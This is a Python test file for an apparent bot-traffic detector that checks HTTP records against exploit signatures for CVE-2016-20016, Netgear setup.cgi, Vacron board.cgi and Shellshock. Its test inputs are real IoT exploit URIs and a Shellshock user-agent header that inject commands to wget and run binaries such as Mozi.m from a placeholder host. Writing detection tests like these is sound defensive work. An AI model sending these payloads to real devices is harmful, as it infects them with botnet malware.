import pytest

from botwarden.detect.signs import sign_text, signs_of
from detect.watchers.scenes import BOT, CAM, http


def test_the_signs_of_a_record_stand() -> None:
    assert signs_of(http(BOT, CAM, 0, signs=("CVE-2018-10561",))) == ("CVE-2018-10561",)


@pytest.mark.parametrize(
    ("uri", "sign"),
    [
        ("/shell?cd+/tmp;wget+http://198.51.100.5/jaws;sh+/tmp/jaws", "CVE-2016-20016"),
        ("/setup.cgi?todo=syscmd&cmd=wget+http://198.51.100.5/Mozi.m", "netgear-setup-cgi"),
        ("/board.cgi?cmd=cd+/tmp;wget+http://198.51.100.5/arm7", "vacron-board-cgi"),
    ],
)
def test_a_record_of_zeeks_is_looked_at_anew(uri: str, sign: str) -> None:
    assert sign in signs_of(http(BOT, CAM, 0, uri))


def test_headers_that_it_has_are_looked_at_too() -> None:
    assert signs_of(http(BOT, CAM, 0, user_agent="() { :; }; /bin/busybox wget http://198.51.100.5/x"))


@pytest.mark.parametrize("uri", [None, "/", "/shell", "/setup.cgi?next_file=basic.htm", "/board.cgi", "/a?cmd=status"])
def test_ordinary_requests_have_none(uri: str | None) -> None:
    assert signs_of(http(BOT, CAM, 0, uri)) == ()


def test_a_sign_says_what_it_is_about() -> None:
    assert sign_text("CVE-2017-17215") == "CVE-2017-17215 (Huawei HG532, firmware upgrade over SOAP)"
    assert sign_text("something") == "something"
